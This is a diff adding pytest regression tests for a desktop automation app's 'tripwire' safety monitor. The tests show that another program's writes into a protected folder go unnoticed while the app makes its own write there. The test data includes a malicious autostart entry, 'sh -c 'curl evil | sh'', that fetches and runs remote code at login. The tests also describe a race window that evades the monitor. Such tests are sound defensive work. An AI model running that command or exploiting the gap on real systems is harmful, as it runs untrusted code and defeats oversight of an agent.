@@ -24,7 +24,7 @@ from typing import Any
 
 import pytest
 
-from app import protected
+from app import paths, protected
 from app.events import (
     RunFinished,
 )
@@ -333,6 +333,84 @@ def test_the_tripwire_never_runs_a_program_from_a_folder_a_run_can_write(
     finally:
         w.close()
     assert not ran.exists(), f"holodesk ran {cargo / 'crontab'}: {ran.read_text()!r}"
+
+
+# -- 3. an own write in a protected folder takes every other change there as its own --------
+
+EVIL_ENTRY = "[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n"
+
+
+def _autostart(home: Home) -> Path:
+    (home.config / "autostart").mkdir(parents=True)
+    return home.config / "autostart" / "evil.desktop"  # created: runs at the next login
+
+
+def _autostart_toggled(home: Home, attack: Callable[[], object]) -> None:
+    """The person turns "start at login" on in the app while a run goes on."""
+    from app.autostart import Autostart
+
+    entry = Autostart(home.config / "autostart" / "holodesk.desktop", ("holodesk",))
+    with paths.own_write(entry.path):  # the entry's own write is under way...
+        attack()  # ...while another program writes in the same folder
+        entry.enable()
+
+
+def _automations(home: Home) -> Path:
+    victim = paths.ensure_private_dir(paths.config_dir()) / "automations.toml"
+    victim.write_text("# holodesk automations\n")
+    return victim  # modified
+
+
+def _setting_saved(home: Home, attack: Callable[[], object]) -> None:
+    """A setting saved (`config set`, the Settings window) while a run goes on."""
+    from app.settings import set_value
+
+    with paths.own_write(paths.settings_path()):
+        attack()
+        set_value("max_steps", "12")
+
+
+def _other_steps(home: Home) -> Path:
+    from app.trajectory import trajectory_dir
+
+    victim = trajectory_dir("backup") / "trajectory.json"
+    victim.parent.mkdir(parents=True)
+    victim.write_text('{"steps": []}\n')
+    return victim  # modified: another automation's saved steps
+
+
+def _steps_saved(home: Home, attack: Callable[[], object]) -> None:
+    """An automation run's steps saved as it ends (every automation run, nobody asked)."""
+    from app.trajectory import save_trajectory, trajectory_dir
+    from tests.support.saved_steps import saved_steps
+
+    trajectory, pictures = saved_steps()
+    with paths.own_write(trajectory_dir("timesheet")):
+        attack()
+        save_trajectory("timesheet", trajectory, pictures)
+
+
+@pytest.mark.parametrize(("victim_of", "own_write"), [
+    (_autostart, _autostart_toggled), (_automations, _setting_saved),
+    (_other_steps, _steps_saved)], ids=["autostart-entry", "settings", "saved-steps"])
+def test_an_own_write_in_a_protected_folder_leaves_other_changes_there_judged(
+        home: Home, victim_of: Callable[[Home], Path],
+        own_write: Callable[[Home, Callable[[], object]], None]) -> None:
+    """docs/safety.md: while an own write is under way nothing is judged, "then everything
+    else is". Tripwire._refresh's test is the wrong way round (``entry.path in
+    target.parents`` holds when the target is *inside* the protected folder), so the whole
+    folder's snapshot is taken again from disk, and another program's change there during
+    the write becomes the snapshot: never stopped, never put back, and in the record the run
+    leaves (so never told either)."""
+    victim = victim_of(home)
+    trips: list[Trip] = []
+    w = protected.start_tripwire(Settings(), trips.append, watch=False)
+    try:
+        own_write(home, lambda: victim.write_text(EVIL_ENTRY))
+        w.check()
+    finally:
+        w.close()
+    assert trips, f"{victim} changed during holodesk's own write nearby and nothing tripped"
 
 
 # -- the damage is real (these pass today) ----------------------------------------------------
